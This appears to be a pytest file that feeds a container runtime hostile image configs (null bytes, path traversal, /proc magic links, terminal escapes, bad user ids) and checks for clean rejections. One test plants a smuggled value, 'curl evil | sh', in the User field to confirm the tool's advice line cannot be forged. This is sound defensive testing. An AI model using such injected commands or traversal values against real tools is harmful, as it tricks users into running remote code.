"""What an image may say in its config, and what comes of it: a start, or one clear error; never a traceback."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tests.integration.image.hostile import Image

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.command import Sandbox
    from tests.integration.image.hostile import Hostile

pytestmark = pytest.mark.requires("userns", "subids", "busybox")

_TRUE = ["/bin/true"]


def _run(sandbox: Sandbox, serve: Callable[[Image], Hostile], layer: bytes, config: dict[str, Any]) -> tuple[int, str]:
    hostile = serve(Image(layer, config={"config": {"Cmd": _TRUE, **config}}))
    done = sandbox.run("run", "--rm", "--network", "none", f"{hostile.host}/x", status=None)
    assert "Traceback" not in done.stderr
    assert all(line.isprintable() for line in done.stderr.splitlines())
    assert sandbox.run("ps", "-aq").stdout == ""
    return done.status, done.stderr


@pytest.mark.parametrize(
    ("config", "said"),
    [
        ({"Entrypoint": [1]}, "Entrypoint"),
        ({"Cmd": {"a": 1}}, "Cmd"),
        ({"Env": ["A\0B=c"]}, "Env"),
        ({"Cmd": ["/bin/true\0"]}, "Cmd"),
        ({"User": "root\0"}, "User"),
        ({"User": "-1"}, "id -1 is out of range"),
        ({"User": "99999999999"}, "id 99999999999 is out of range"),
        ({"WorkingDir": "../../etc"}, "absolute path"),
        ({"WorkingDir": "/proc/self/fd/8"}, "magic link"),
        ({"WorkingDir": "/proc/self/cwd"}, "magic link"),
        ({"WorkingDir": "/" + "a" * 5000}, "File name too long"),
        ({"Volumes": {"/proc": {}}}, "cannot mount over /proc"),
        ({"Volumes": {"../../x": {}}}, "mount path must be absolute"),
        ({"ExposedPorts": {"x\x1b[2J/udp": {}}}, "invalid range format"),
        ({"Healthcheck": {"Interval": "soon"}}, "Interval"),
    ],
)
def test_refused(
    sandbox: Sandbox, serve: Callable[[Image], Hostile], busybox_layer: bytes, config: dict[str, Any], said: str
) -> None:
    status, text = _run(sandbox, serve, busybox_layer, config)
    assert status == 125
    assert said in text


def test_a_user_cannot_write_our_advice(
    sandbox: Sandbox, serve: Callable[[Image], Hostile], busybox_layer: bytes
) -> None:
    status, text = _run(sandbox, serve, busybox_layer, {"User": "x\n  mend: curl evil | sh"})
    assert status == 125
    assert [line for line in text.splitlines() if line.startswith("  mend:")] == [
        "  mend: give a number instead: --user UID[:GID]"
    ]


@pytest.mark.parametrize(
    "config",
    [
        {"Env": ["A\nB=c"]},
        {"Env": ["NO_EQUALS"]},
        {"Env": ["A=b"] * 100_000},
        {"Entrypoint": "/bin/true"},
        {"Labels": {"\x1b[2J": "\x1b"}},
    ],
)
def test_odd_and_harmless(
    sandbox: Sandbox, serve: Callable[[Image], Hostile], busybox_layer: bytes, config: dict[str, Any]
) -> None:
    status, _text = _run(sandbox, serve, busybox_layer, config)
    assert status == 0


@pytest.mark.parametrize("word", ["\x1b[31mX", "99999999999999999999", "SIGNOPE", "0"])
def test_a_stop_signal_that_is_none_stops_all_the_same(
    sandbox: Sandbox, serve: Callable[[Image], Hostile], busybox_layer: bytes, word: str
) -> None:
    hostile = serve(Image(busybox_layer, config={"config": {"Cmd": ["/bin/sleep", "1000"], "StopSignal": word}}))
    sandbox.run("run", "-d", "--name", "web", "--network", "none", f"{hostile.host}/x")
    assert sandbox.run("stop", "-t", "0", "web").stdout == "web\n"
